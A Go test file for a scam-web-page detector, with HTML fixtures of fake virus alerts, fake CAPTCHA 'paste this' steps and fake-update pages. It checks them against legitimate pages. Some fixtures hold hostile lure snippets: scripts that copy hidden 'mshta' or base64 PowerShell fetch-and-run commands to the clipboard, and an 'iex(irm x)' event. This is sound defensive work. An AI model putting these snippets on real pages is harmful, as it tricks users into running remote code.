package features

import (
	"github.com/alertguard/alertguard/signatures"
	"math"
	"slices"
	"strings"
	"testing"

	"github.com/alertguard/alertguard/internal/judging/facts"
	"github.com/alertguard/alertguard/internal/judging/snapshot"
)

func extract(t *testing.T, e *Extractor, url, html string, events ...snapshot.Event) map[string]float64 {
	t.Helper()
	s := &snapshot.Snapshot{URL: url, HTML: html, Events: events}
	s.Bound()
	v := e.Extract(facts.Build(s), nil)
	out := map[string]float64{}
	for i, x := range v.Values {
		if x != 0 {
			out[e.Defs()[i].Name] = x
		}
	}
	return out
}

func TestExtract(t *testing.T) {
	e, err := New(nil)
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name, url, html string
		events          []snapshot.Event
		want            map[string]float64 // features that must have exactly this value
		absent          []string           // features that must be 0
	}{
		{name: "paste steps in japanese", url: "https://x.example.top/",
			html: `<p>① Win + R を押す ② Ctrl + V を押す ③ Enter を押す</p>`,
			want: map[string]float64{"lure.paste-steps": 1}},
		{name: "command hidden in a joined array", url: "https://x.example.top/",
			html: `<button id=b>fix</button><script>var p=['msh','ta ','http','s://x.example/a.hta'].join('');navigator.clipboard.writeText(p)</script>`,
			want: map[string]float64{"lure.command-clipboard": 1}},
		{name: "command hidden in base64 utf-16", url: "https://x.example.top/",
			html: `<script>var c=atob('cABvAHcAZQByAHMAaABlAGwAbAAgAC0AdwAgAGgAaQBkAGQAZQBuAA==');document.execCommand('copy')</script>`,
			want: map[string]float64{"lure.command-clipboard": 1}},
		{name: "fake address bar", url: "https://err.example.xyz/",
			html: `<div class="bar"><span>https://www.microsoft.com/ja-jp/security</span></div><h1>Windows Defender</h1>`,
			want: map[string]float64{"authority.fake-chrome": 1, "authority.brand-claimed": 1, "authority.os-voice": 1}},
		{name: "threat count with brackets", url: "https://x.example.top/",
			html: `<h1>ウイルス警告</h1><p>(6)個のウイルスにより破損しています</p>`,
			want: map[string]float64{"alarm.threat-count": 1}},
		{name: "gift cards and remote tool", url: "https://x.example.top/",
			html: `<p>AnyDesk を入れてください。お支払いは Google Play カードをコンビニで購入して</p>`,
			want: map[string]float64{"lure.remote-tool": 0.5, "lure.gift-card": 1}},
		{name: "documentation command is the vendor's own", url: "https://docs.example.org/install",
			html: `<h1>Install</h1><p>Run this in PowerShell:</p><pre><code>irm https://get.example.org/install.ps1 | iex</code></pre>`,
			want: map[string]float64{"negative.vendor-command": 1}},
		{name: "hidden clipboard command seen at run time", url: "https://x.example.top/",
			html:   `<p>Checking your browser</p>`,
			events: []snapshot.Event{{Type: "clipboard-write", Count: 1, Detail: "powershell -w hidden -c iex(irm x)"}},
			want:   map[string]float64{"runtime.clipboard-command": 1},
			absent: []string{"runtime.clipboard-shown-command", "lure.command-clipboard"}}, // the twin is raised by decide, on a page that claims
		{name: "shown command copied", url: "https://docs.example.org/",
			html:   `<pre><code>powershell -c "irm https://get.example.org/i.ps1 | iex"</code></pre>`,
			events: []snapshot.Event{{Type: "clipboard-write", Count: 1, Gesture: true, Detail: `powershell -c "irm https://get.example.org/i.ps1 | iex"`}},
			want:   map[string]float64{"runtime.clipboard-shown-command": 1},
			absent: []string{"runtime.clipboard-command"}},
		{name: "full screen without a click", url: "https://x.example.top/", html: `<p>x</p>`,
			events: []snapshot.Event{{Type: "fullscreen", Count: 1}, {Type: "keyboard-lock", Count: 1}},
			want:   map[string]float64{"runtime.fullscreen": 1, "runtime.keyboard-lock": 1},
			absent: []string{"lock.fullscreen"}},
		{name: "a game toggling full screen on clicks", url: "https://game.example.com/", html: `<canvas></canvas>`,
			events: []snapshot.Event{{Type: "fullscreen", Count: 4, Gesture: true}},
			want:   map[string]float64{"runtime.fullscreen": 0.5}},
		{name: "a copy the browser saw, on a fake check with paste steps", url: "https://x.example.top/",
			html:   `<label><input type=checkbox> I am not a robot</label><p>Verification steps: 1. Press Win+R 2. Press Ctrl+V 3. Press Enter</p>`,
			events: []snapshot.Event{{Type: "clipboard-write", Count: 1, Gesture: true}},
			want:   map[string]float64{"runtime.clipboard-write": 1, "combined.paste-command": 1}},
		{name: "a video player's play() is little", url: "https://video.example.com/",
			html: `<video id=v></video><script>document.getElementById('v').play()</script>`,
			want: map[string]float64{"pressure.sound": 0.3}},
		{name: "form validation alerts are not a dialog loop", url: "https://shop.example.com/",
			html:   `<script>alert('Enter a valid email');alert('Enter a valid email');alert('Required fields')</script>`,
			absent: []string{"lock.dialog-loop"}},
		{name: "alarming dialogs are", url: "https://x.example.top/",
			html: `<script>alert('Your computer is infected! Call now');alert('virus');alert('virus')</script>`,
			want: map[string]float64{"lock.dialog-loop": 1}},
		{name: "well-known site, but not its user content", url: "https://www.nytimes.com/2026/01/01/tech/scams.html",
			html: `<p>x</p>`, want: map[string]float64{"negative.known-org": 1}},
		{name: "user content host", url: "https://sites.google.com/view/x",
			html: `<p>x</p>`, absent: []string{"negative.known-org"}},
		{name: "word boundaries", url: "https://av.example.com/",
			html: `<p>antivirus antiviruses</p>`, absent: []string{"alarm.words"}},
		{name: "an age check over the page is a form, not a lock", url: "https://pub.example.com/",
			html:   `<style>.ag{position:fixed;inset:0;z-index:10}</style><div class="ag"><h2>Are you 18 or over?</h2><button>Yes</button></div>`,
			want:   map[string]float64{"lock.overlay": overlayFormLock, "negative.overlay-form": 1},
			absent: []string{"lure.pretext"}}, // an age question is what real age gates ask: no pretext
		{name: "a sign-in form behind a backdrop", url: "https://tv.example.com/",
			html: `<div style="position:fixed;top:0;left:0;width:100%;height:100%"></div><div><h2>Log in to continue</h2><input type=password></div>`,
			want: map[string]float64{"lock.overlay": overlayFormLock, "negative.overlay-form": 1}},
		{name: "an overlay that alarms is a lock", url: "https://x.example.top/",
			html: `<div style="position:fixed;inset:0"><h2>Sign in</h2><p>Your computer is infected with a virus. Call 1-800-555-0199</p></div>`,
			want: map[string]float64{"lock.overlay": 1}, absent: []string{"negative.overlay-form"}},
		{name: "a fraud notice about your card", url: "https://jcb-card-teishi.example.net/",
			html: `<title>JCB カード停止のご連絡</title><h1>お客様のカードは停止されました</h1><p>再開はお電話で 050-0000-3176</p>`,
			want: map[string]float64{"alarm.account": 1, "authority.title-brand": 1, "conj.account-call": 1}},
		{name: "an issuer's help page on its own site claims nothing", url: "https://www.jcb.co.jp/security/",
			html:   `<title>JCB 不正利用の疑いがある場合</title><p>カードの紛失・盗難・不正利用の疑いがある場合はお電話ください 0120-794-082</p>`,
			absent: []string{"alarm.account", "authority.title-brand", "authority.brand-claimed"}},
		{name: "a card issuer's own page names the card network", url: "https://www.smbc-card.com/mem/lost.jsp",
			html:   `<title>紛失・盗難 | 三井住友カード Visa</title><h1>Visa カードの紛失・盗難</h1>`,
			want:   map[string]float64{"authority.brand-named": 1},
			absent: []string{"authority.brand-claimed", "authority.title-brand"}},
		{name: "a user-content host of a brand claims another", url: "https://sites.google.com/view/help",
			html: `<title>Microsoft Windows セキュリティ警告</title><h1>Windows Defender</h1>`,
			want: map[string]float64{"authority.title-brand": 1, "authority.brand-claimed": 1}},
		// brand names that are ordinary words: the page's subject, not a voice
		{name: "a recipe named after apples, with a Print button", url: "https://www.seriouseats.com/apple-crisp",
			html:   `<title>Apple Crisp Recipe</title><h1>Apple Crisp</h1><button onclick="window.print()">Print</button><p>6 apples, oats, sugar</p>`,
			absent: []string{"authority.brand-claimed", "authority.title-brand", "authority.brand-named", "lock.windows", "conj.authority-lock"}},
		{name: "a japanese apple pie recipe", url: "https://cookpad.example.com/recipe/1",
			html:   `<title>りんごたっぷりアップルパイ</title><h1>アップルパイの作り方</h1><button onclick="print()">印刷</button>`,
			absent: []string{"authority.brand-claimed", "authority.title-brand", "lock.windows"}},
		{name: "a glazier's windows and doors", url: "https://glazing.example.co.uk/",
			html:   `<title>Windows and Doors | Double Glazing</title><h1>Windows &amp; doors fitted in a day</h1>`,
			absent: []string{"authority.brand-claimed", "authority.title-brand", "authority.brand-named"}},
		{name: "a travel page on the Amazon", url: "https://travel.example.jp/",
			html:   `<title>アマゾン川クルーズ 8日間</title><h1>Amazon river cruise</h1>`,
			absent: []string{"authority.brand-claimed", "authority.title-brand", "authority.brand-named"}},
		{name: "an apple support scam still speaks as Apple", url: "https://x.example.top/",
			html: `<title>Apple サポート</title><h1>Apple ID がロックされました</h1><p>お電話ください 050-0000-3176</p>`,
			want: map[string]float64{"authority.brand-claimed": 1, "authority.title-brand": 1}},
		{name: "a windows scam still speaks as Microsoft", url: "https://x.example.top/",
			html: `<title>Windows Security Alert</title><h1>Windows Defender: your PC is infected</h1>`,
			want: map[string]float64{"authority.brand-claimed": 1, "authority.title-brand": 1}},
		{name: "a print loop is a lock", url: "https://x.example.top/",
			html: `<h1>Windows セキュリティ 警告</h1><script>var n=0;setInterval(function(){if(n++<50){window.print();}},1500);</script>`,
			want: map[string]float64{"lock.windows": 1.0 / 3, "conj.authority-lock": 1.0 / 3}},
		{name: "a firewall's block page shows your IP but claims no registration", url: "https://www.city.example.jp/",
			html:   `<h1>アクセスが拒否されました</h1><p>お客様のIPアドレス 203.0.113.58</p>`,
			absent: []string{"alarm.registered"}},
		{name: "a one-click page claims registration and shows your IP", url: "https://x.example.top/",
			html: `<h1>会員登録が完了しました</h1><p>お客様のIPアドレス 203.0.113.58</p>`,
			want: map[string]float64{"alarm.registered": 1}},
		{name: "an awareness page labels its example screen", url: "https://www.city.example.jp/",
			html: `<h1>ワンクリック請求に注意</h1><div>会員登録が完了しました 050-0000-0000</div><p>※相談事例をもとに再現した画面です。番号は架空です。</p>`,
			want: map[string]float64{"negative.example-screen": 1}},
		{name: "headings that explain", url: "https://help.example.com/",
			html: `<h1>What is a Windows error?</h1><h2>What causes them?</h2><p>Symptoms include slow start.</p>`,
			want: map[string]float64{"negative.explainer": 1}},
		{name: "headings that instruct speak in the page's own voice", url: "https://x.example.top/",
			html:   `<h1>How to verify you are human</h1><h2>確認手順</h2><p>Press Win+R</p>`,
			absent: []string{"negative.explainer"}},
		{name: "a support line without an alarm is no system voice", url: "https://amwell.example.com/visit",
			html:   `<h1>You're next in line</h1><p>Technical support: 1-844-555-0165</p>`,
			absent: []string{"authority.os-voice"}},
		{name: "a support desk beside an alarm about your computer is", url: "https://x.example.top/",
			html: `<h1>Your computer is infected</h1><p>Technical support: 1-844-555-0165</p>`,
			want: map[string]float64{"authority.os-voice": 1}},
		{name: "a platform named for a download is no system voice", url: "https://www.gimp.example.org/downloads/",
			html:   `<main><h1>Download GIMP</h1><p>Showing downloads for Microsoft Windows</p></main>`,
			absent: []string{"authority.os-voice"}},
		{name: "an article quotes a fake update in single quotes", url: "https://news.example.com/2025/fake-updates/",
			html: `<h1>Fake browser updates are back</h1><p>Hacked sites show a 'Your browser is out of date - Update Chrome' screen. Don't click it.</p>`,
			want: map[string]float64{"alarm.update-required": quotedStrength * 0.75}},
		{name: "a vet's vaccine page speaks of a disease's virus", url: "https://vet.example.jp/vaccine",
			html:   `<h1>犬の混合ワクチン</h1><h2>パルボウイルスなどの感染症を予防します</h2><p>ご予約はお電話で 03-0000-5521</p>`,
			absent: []string{"alarm.prominent", "alarm.words", "combined.alarm-phone"}},
		{name: "a fake alert's virus is the computer's", url: "https://x.example.top/",
			html: `<h1>ウイルスに感染しています</h1><p>お電話ください 050-0000-0000</p>`,
			want: map[string]float64{"alarm.prominent": 2.0 / 3, "combined.alarm-phone": 2.0 / 3}},
		{name: "paste steps beside the code blocks they run are a how-to", url: "https://kb.example.edu/gpupdate",
			html: `<h1>Windows - Force a Group Policy update</h1><ol><li>Press Windows key + R.</li><li>Type <code>cmd</code> and press Enter.</li></ol><pre><code>gpupdate /force</code></pre>`,
			want: map[string]float64{"lure.paste-steps": quotedStrength}},
		{name: "a CDN's block page on a site it protects claims nothing", url: "https://example-forum.example.org/post",
			html:   `<title>Attention Required! | Cloudflare</title><h1>Sorry, you have been blocked</h1><p>Cloudflare Ray ID: 8f2a1c0d9e7b4a99</p>`,
			absent: []string{"authority.brand-claimed", "authority.title-brand"}},
		{name: "nor with a number or a download added: the name says nothing wherever it is shown", url: "https://example-forum.example.org/post",
			html:   `<title>Attention Required! | Cloudflare</title><h1>Sorry, you have been blocked</h1><p>Cloudflare Ray ID: 8f2a1c0d9e7b4a99</p><h2>Call us: 1-800-555-0199</h2><a href="/setup-2.4.1-x64.exe" download>Download for Windows</a>`,
			want:   map[string]float64{"authority.brand-in-banner": 1},
			absent: []string{"authority.brand-claimed", "authority.title-brand", "conj.authority-call", "conj.authority-install"}},
		{name: "a fake one that asks to paste does", url: "https://x.example.top/",
			html: `<title>Just a moment... | Cloudflare</title><h1>Verify you are human</h1><p>Press Win+R, then Ctrl+V and Enter.</p>`,
			want: map[string]float64{"authority.brand-claimed": 1}},
		{name: "a government page's virus is no claim of its own", url: "https://www.mhlw.go.jp/flu/",
			html:   `<h1>インフルエンザウイルスに感染したら</h1><p>すぐに医療機関にお電話ください 03-0000-0000</p>`,
			absent: []string{"alarm.prominent", "combined.alarm-phone", "conj.alarm-call"}},
		{name: "headings that announce", url: "https://x.example.top/",
			html:   `<h1>Your PC is infected</h1><h2>Call support now</h2>`,
			absent: []string{"negative.explainer"}},
		{name: "one alarm word in a heading pairs with a number at its strength", url: "https://bank.example.com/",
			html: `<h1>盗難・紛失のお問い合わせ</h1><p>お電話ください 0120-000-391</p>`,
			want: map[string]float64{"combined.alarm-phone": 1.0 / 3}},
		{name: "a copy button beside code blocks copies what they show", url: "https://kb.example.edu/",
			html:   `<p>Press Win+R, type cmd, press Enter.</p><pre>gpupdate /force</pre><button>Copy</button><script>navigator.clipboard.writeText(document.querySelector('pre').textContent)</script>`,
			absent: []string{"combined.paste-command"}},
		{name: "a look-alike host claims to be the download site", url: "https://anydesk-download.example.com/en/",
			html: `<a href="/AnyDesk_Setup.msi">Download for Windows</a>`, want: map[string]float64{"authority.host-claim": 1}},
		{name: "a look-alike host on a page that asks nothing says nothing", url: "https://anydesk-download.example.com/en/",
			html: `<p>x</p>`, absent: []string{"authority.host-claim"}},
		{name: "a real site's download host", url: "https://download.gimp.org/gimp/",
			html: `<a href="/gimp-3.0.2-setup.exe">Download</a>`, absent: []string{"authority.host-claim"}},
		{name: "a one-letter prefix is no name joined to an official word", url: "https://www.f-secure.com/jp/internet-security",
			html: `<h2>お電話でのお問い合わせ 0120-000-123</h2>`, absent: []string{"authority.host-claim"}},
		{name: "a name joined to an official word is, beside a number", url: "https://fs-secure.example.com/",
			html: `<h2>お電話でのお問い合わせ 0120-000-123</h2>`, want: map[string]float64{"authority.host-claim": 1}},
		{name: "a hyphenated name without an official word", url: "https://www.tokyo-gas.co.jp/",
			html: `<p>x</p>`, absent: []string{"authority.host-claim"}},
		{name: "a ticket lottery and a member benefit are no prize", url: "https://t.example.jp/",
			html: `<p>プレリザーブ抽選受付中。会員特典あり。送料無料。</p>`, absent: []string{"lure.prize"}},
		{name: "a prize that costs only the shipping is", url: "https://x.example.top/",
			html: `<h1>おめでとうございます！当選しました</h1><p>送料のみでお届けします</p>`, want: map[string]float64{"lure.prize": 1}},
		{name: "a meeting's dial-in numbers", url: "https://meet.example.com/j/1",
			html: `<h1>Join the meeting</h1><p>Dial in: Toll free +1 855-555-0167 Meeting PIN: 5529130447</p>`,
			want: map[string]float64{"negative.dial-in": 1}, absent: []string{"lure.phone"}},
		{name: "a vendor describes its program", url: "https://dl.example.com/",
			html: `<a href="/setup.exe">Setup (64-bit)</a><p>File size: 2.7 MB. System requirements: Windows 10 or later.</p>`,
			want: map[string]float64{"negative.product-facts": 1}},
		{name: "an opt-in that says what it sends", url: "https://news.example.com/",
			html: `<p>速報をプッシュ通知で受け取りますか？ 大きなニュースを、ブラウザの通知でお知らせします。設定はいつでも変更できます。</p>`,
			want: map[string]float64{"negative.optin-purpose": 1}},
		{name: "a quoted alarm is not the page's voice", url: "https://talks.example.dev/",
			html: `<h2>The pop-up your parents will see</h2><blockquote>Windows Defender Alert: your PC is infected</blockquote>`,
			// quoted (0.25), then in the page's voice: one less the quoted alarm's 1/3
			want: map[string]float64{"authority.os-voice": quotedStrength * (1 - 1.0/3)}},
		{name: "a muted preview plays no sound", url: "https://meet.example.com/",
			html:   `<video id=preview autoplay muted playsinline></video>`,
			absent: []string{"pressure.sound"}},
		{name: "an autoplaying sound does", url: "https://x.example.top/",
			html: `<audio autoplay loop src="alarm.mp3"></audio>`,
			want: map[string]float64{"pressure.sound": 1}},
		{name: "the browser's own error page speaks as the browser", url: "chrome-error://chromewebdata/",
			html:   `<h1>This site can’t be reached</h1><p>Running Windows Network Diagnostics. Google Chrome</p>`,
			absent: []string{"authority.os-voice"}},
		{name: "an article that explains a fake alert does not claim it", url: "https://blog.example.org/",
			html:   `<article><h1>How to spot a fake Windows Defender alert</h1><h2>Windows Defender: your PC is infected</h2><p>Call 1-855-555-0123 now</p><h2>What to do</h2></article>`,
			absent: []string{"conj.authority-call", "conj.alarm-call"}},
		{name: "the same alert on its own claims it", url: "https://x.example.top/",
			html: `<h1>Windows Defender: your PC is infected</h1><p>Call 1-855-555-0123 now</p>`,
			want: map[string]float64{"conj.authority-call": 1}},
		{name: "a shop's no-refund terms are no refund story", url: "https://shop.example.com/",
			html:   `<p>All sales are final; no refunds or exchanges. Questions? Call 1-855-555-0123</p>`,
			absent: []string{"lure.refund", "combined.refund-lure"}},
		{name: "a refund story is", url: "https://x.example.top/",
			html: `<p>Your refund will be processed. Call the refund department 1-855-555-0123</p>`,
			want: map[string]float64{"lure.refund": 1}},
		{name: "a player names the services it plays", url: "https://plyr.example.io/",
			html:   `<title>Plyr - A simple HTML5 Video, Audio, YouTube and Vimeo player</title><h1>Plyr</h1>`,
			absent: []string{"authority.brand-claimed", "authority.title-brand"}},
		{name: "a title in a brand's voice", url: "https://x.example.top/",
			html: `<title>YouTube - Verify your age</title>`,
			want: map[string]float64{"authority.title-brand": 1}},
		{name: "a vendor's update on its own site is its own word", url: "https://support.microsoft.com/en-us/windows/update",
			html: `<h1>Your device is out of date: update Windows now</h1><a href="/setup.exe">Download</a>`,
			want: map[string]float64{"negative.brand-site": 1}, absent: []string{"conj.alarm-install"}},
		{name: "the same words elsewhere are a claim", url: "https://x.example.top/",
			html: `<h1>Your device is out of date: update Windows now</h1><a href="/setup.exe">Download</a>`,
			// in a heading: the page's headline, at full strength (headline.go, lures.go)
			want: map[string]float64{"conj.update-install": 1}, absent: []string{"negative.brand-site"}},
		{name: "a city's own site", url: "https://www.city.osaka.lg.jp/shimin/page/1.html",
			html: `<p>x</p>`, want: map[string]float64{"negative.gov-site": 1}},
		{name: "a look-alike of a government name is not one", url: "https://lg.jp.example.top/",
			html: `<p>x</p>`, absent: []string{"negative.gov-site"}},
		{name: "a quoted prize is no promise", url: "https://weather.example.jp/",
			html:   `<p>当社の通知が「当選しました」などと表示することはありません。</p>`,
			want:   map[string]float64{"lure.prize": quotedStrength},
			absent: []string{"combined.prize-pressure"}},
		{name: "a recipe's apple is no company", url: "https://recipes.example.com/",
			html:   `<title>Apple Crisp Recipe</title><h1>Apple Crisp</h1>`,
			absent: []string{"authority.brand-claimed", "authority.title-brand"}},
		{name: "a player's full-screen button", url: "https://video.example.com/",
			html: `<video id=v></video><button id=f>Full screen</button><script>f.onclick=function(){v.requestFullscreen()}</script>`,
			want: map[string]float64{"lock.fullscreen": offeredFullscreen}},
		// Windows app packages are programs (commands.AppPackages)
		{name: "an MSIX package pushed by a fake update", url: "https://teams-update.example.top/",
			html: `<h1>Your Microsoft Teams is out of date</h1><a href="/TeamsUpdate.msix">Update now</a>`,
			want: map[string]float64{"lure.download": 1}},
		{name: "an App Installer link", url: "https://x.example.top/",
			html: `<h1>Your browser is out of date</h1><a href="ms-appinstaller:?source=https://x.example.top/u.appinstaller">Update</a>`,
			want: map[string]float64{"lure.download": 1}},
		{name: "an App Installer file named in the script", url: "https://x.example.top/",
			html: `<h1>Your browser is out of date</h1><script>location.href='https://x.example.top/setup.appinstaller'</script>`,
			want: map[string]float64{"lure.download": 1}},
		// the system's name as a platform or a subject claims nothing (brands.Qualified)
		{name: "a deck about Windows 11 kitting", url: "https://speakerdeck.com/example/windows-kitting-2026",
			html:   `<title>Windows 11 キッティング自動化 2026 - Speaker Deck</title><h1>Windows 11 キッティング自動化</h1>`,
			absent: []string{"authority.brand-claimed", "authority.title-brand"}},
		{name: "a help page's (Windows) is a platform", url: "https://it.example.edu/",
			html:   `<title>Remote support with Quick Assist | IT</title><h1>Remote support with Quick Assist (Windows)</h1>`,
			absent: []string{"authority.brand-claimed", "authority.title-brand"}},
		{name: "malware named beside Windows Run is no voice", url: "https://www.example-security.com/blog/",
			html:   `<title>Fake CAPTCHA sites ask you to paste malware into Windows Run</title>`,
			absent: []string{"authority.brand-claimed", "authority.title-brand"}},
		{name: "Windows' own alarm in German is", url: "https://x.example.top/",
			html: `<title>Windows-Sicherheit: Ihr Computer ist gesperrt</title>`,
			want: map[string]float64{"authority.title-brand": 1}},
		{name: "a slide deck's F key", url: "https://slides.example.com/",
			html: `<script>document.addEventListener('keydown',function(e){if(e.key==='f'){document.documentElement.requestFullscreen()}})</script>`,
			want: map[string]float64{"lock.fullscreen": offeredFullscreen}},
		{name: "full screen on any key is a lock", url: "https://x.example.top/",
			html: `<script>document.addEventListener('keydown',function(e){document.documentElement.requestFullscreen()})</script>`,
			want: map[string]float64{"lock.fullscreen": 1}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := extract(t, e, tt.url, tt.html, tt.events...)
			for k, v := range tt.want {
				if math.Abs(got[k]-v) > 1e-9 {
					t.Errorf("%s = %.2f, want %.2f (all: %v)", k, got[k], v, got)
				}
			}
			for _, k := range tt.absent {
				if got[k] != 0 {
					t.Errorf("%s = %.2f, want 0 (all: %v)", k, got[k], got)
				}
			}
		})
	}
}

// TestDefs: every feature has both languages, a known group, and no name
// twice; lexicon files referenced by the code exist.
func TestDefs(t *testing.T) {
	e, err := New(nil)
	if err != nil {
		t.Fatal(err)
	}
	groups := map[string]bool{Authority: true, Alarm: true, Lure: true, Pressure: true, Lock: true, Runtime: true, Combined: true, Conjunction: true, Negative: true, Signature: true}
	for _, d := range e.Defs() {
		if d.Title.Ja == "" || d.Title.En == "" || d.Explanation.Ja == "" || d.Explanation.En == "" || !groups[d.Group] {
			t.Errorf("%s: incomplete definition %+v", d.Name, d)
		}
	}
	for _, m := range mechanics {
		for _, n := range m {
			if e.Index(n) < 0 {
				t.Errorf("mechanic feature %q is not defined", n)
			}
		}
	}
	for _, tw := range runtimeTwin {
		if e.Index(tw[0]) < 0 || e.Index(tw[1]) < 0 {
			t.Errorf("twin %v is not defined", tw)
		}
	}
	for _, l := range []string{"alarm", "your_device", "os_voice", "call", "call_action", "remote", "giftcard", "purchase", "billing", "legal",
		"do_not_close", "pressure", "countdown", "paste_steps", "verify", "allow", "prize", "appstore", "commands", "aware", "report",
		"contact", "byline", "site_chrome", "scan", "refund", "request", "update_required", "registered", "device_info", "pretext", "overlay_form", "account_alarm", "dial_in", "product_facts", "optin_purpose", "capture_purpose", "example_screen", "explainer", "refund_none", "recorded", "service_offer", "service_quote", "game_controls", "game_words"} {
		if _, ok := e.lx.index[l]; !ok {
			t.Errorf("lexicon %s.txt missing", l)
		}
	}
}

func TestAmountDue(t *testing.T) {
	e, err := New(nil)
	if err != nil {
		t.Fatal(err)
	}
	got := extract(t, e, "https://x.example.top/", `<p>正会員登録が完了しました。</p><p>ご請求額 69,000円</p><p>お支払い期限: 3日以内</p>`)
	if got["lure.amount-due"] != 1 || got["lure.billing"] == 0 {
		t.Fatalf("amount due not seen: %v", got)
	}
	shop := extract(t, e, "https://shop.example.com/", `<p>価格 3,980円（税込）送料無料</p>`)
	if shop["lure.amount-due"] != 0 {
		t.Fatalf("a shop's price is not a demand: %v", shop)
	}
}

// FuzzScriptText: decoding a hostile script's literals is bounded and never
// fails.
func FuzzScriptText(f *testing.F) {
	f.Add(`var c=atob('cABvAHcAZQByAHMAaABlAGwAbAA=');['msh','ta '].join('');[109,115,104,116,97,32,104,116,116]`)
	f.Fuzz(func(t *testing.T, script string) {
		out := scriptText(script)
		if len(out) > 2*maxScriptScan+maxLiterals*3*(maxLiteral+1)+len(script) {
			t.Fatalf("%d bytes out of %d", len(out), len(script))
		}
	})
}

// TestLexiconsListEachPhraseOnce: a phrase listed twice in one lexicon
// (after folding) is counted twice in its total.
func TestLexiconsListEachPhraseOnce(t *testing.T) {
	lx, err := loadLexicons(signatures.FS)
	if err != nil {
		t.Fatal(err)
	}
	for id, owners := range lx.owners {
		for k, li := range owners {
			if slices.Contains(owners[:k], li) {
				t.Errorf("lexicon %s lists %q twice", lx.names[li], lx.pattern[id])
			}
		}
	}
}

// TestTie: what the browser saw raises its static twin, and only upward.
func TestTie(t *testing.T) {
	e, err := New(nil)
	if err != nil {
		t.Fatal(err)
	}
	v := &Vector{Values: make([]float64, len(e.Defs())), Evidence: map[int][]string{}}
	v.Values[e.Index("runtime.download")] = 1
	v.Values[e.Index("runtime.fullscreen")] = 0.5
	v.Values[e.Index("lock.fullscreen")] = 1
	e.Tie(v)
	if got := v.Values[e.Index("lure.download")]; got != 1 {
		t.Errorf("lure.download = %.2f after a download was seen", got)
	}
	if got := v.Values[e.Index("lock.fullscreen")]; got != 1 {
		t.Errorf("lock.fullscreen = %.2f: a weaker runtime value lowered its twin", got)
	}
	if ev := v.Evidence[e.Index("lure.download")]; len(ev) == 0 || ev[0] != "seen: runtime.download" {
		t.Errorf("evidence %q", ev)
	}
}

// TestDeliveryPretext: a parcel or voicemail story is a pretext
// (lure.delivery-story, a claim of its own beside lure.pretext) only on a
// page that hands over an Android package or walks through side-loading;
// a carrier's own page (the story, app-store links) and an app store's
// .apk (no story) make no claim.
func TestDeliveryPretext(t *testing.T) {
	e, err := New(nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct {
		name, url, html string
		pretext         bool
	}{
		{"absence notice with an .apk", "https://sagawa-fuzai.example.com/",
			`<h2>お荷物をお届けに伺いましたが、ご不在のため持ち戻りました</h2><a href="https://x.invalid/sagawa.apk">インストール</a>`, true},
		{"voicemail with side-loading steps", "https://vm.example.net/",
			`<h2>You have a new voicemail</h2><a id="dl" href="https://x.invalid/listen">Listen</a><script>document.getElementById('dl').href="https://x.invalid/v.apk"</script><li>Open Settings and allow installs from this source</li>`, true},
		{"a carrier's redelivery page", "https://www.post.japanpost.jp/",
			`<h1>再配達のお申し込み</h1><p>ご不在連絡票の番号を入力してください。</p><a href="https://apps.apple.com/jp/app/id1">App Store</a><a href="https://play.google.com/store/apps/details?id=jp.post">Google Play</a>`, false},
		{"an app store's package", "https://f-droid.org/",
			`<h1>F-Droid</h1><a href="https://f-droid.org/F-Droid.apk">Download F-Droid</a><p>Allow installs from unknown sources when asked.</p>`, false},
	} {
		got := extract(t, e, tt.url, tt.html)
		if (got["lure.delivery-story"] == 1) != tt.pretext || tt.pretext && got["conj.story-install"] != 1 {
			t.Errorf("%s: lure.delivery-story %.2f conj.story-install %.2f, want a pretext: %v", tt.name, got["lure.delivery-story"], got["conj.story-install"], tt.pretext)
		}
	}
}

// TestSiteChromeNeedsASite: a kit's bare page that copies "Privacy - Terms"
// has no site's furniture; the same words among a site's links do.
func TestSiteChromeNeedsASite(t *testing.T) {
	e, err := New(nil)
	if err != nil {
		t.Fatal(err)
	}
	bare := extract(t, e, "https://kakaku-news.example.com/", `<div>ロボットではありません</div><div>reCAPTCHA<br>プライバシー - 利用規約</div>`)
	if bare["negative.site-chrome"] != 0 {
		t.Errorf("a bare page's footer words count as a site: %.2f", bare["negative.site-chrome"])
	}
	site := extract(t, e, "https://kakaku-news.example.com/", `<p>記事</p>`+strings.Repeat(`<a href="/a">記事</a>`, 4)+`<footer><a href="/terms">利用規約</a></footer>`)
	if site["negative.site-chrome"] == 0 {
		t.Error("a site's terms link does not count")
	}
}

// TestDeviceAlarmHeading: a heading that says the reader's own device is in
// danger is the whole claim; the same words asked, explained or quoted are
// not.
func TestDeviceAlarmHeading(t *testing.T) {
	e, err := New(nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct {
		name, html string
		claim      bool
	}{
		{"a locker's title", `<title>**Votre ordinateur est bloqué**</title><p>x</p>`, true},
		{"a japanese heading", `<h1>お使いのコンピュータはウイルスに感染しています</h1>`, true},
		{"a news question", `<title>Is your computer infected? Signs to look for</title>`, false},
		{"an explainer", `<h1>Your computer is infected: how to spot a fake warning</h1>`, false},
		{"a quoted alarm", `<h1>"Su ordenador ha sido bloqueado": así funciona la estafa</h1>`, false},
		{"device and alarm in different headings", `<h1>Votre ordinateur</h1><h2>Fichier bloqué</h2>`, false},
	} {
		got := extract(t, e, "https://x.example.fr/", tt.html)
		if (got["alarm.prominent"] == 1 && got["alarm.your-device"] == 1) != tt.claim {
			t.Errorf("%s: alarm.prominent %.2f alarm.your-device %.2f, want a full claim: %v", tt.name, got["alarm.prominent"], got["alarm.your-device"], tt.claim)
		}
	}
}
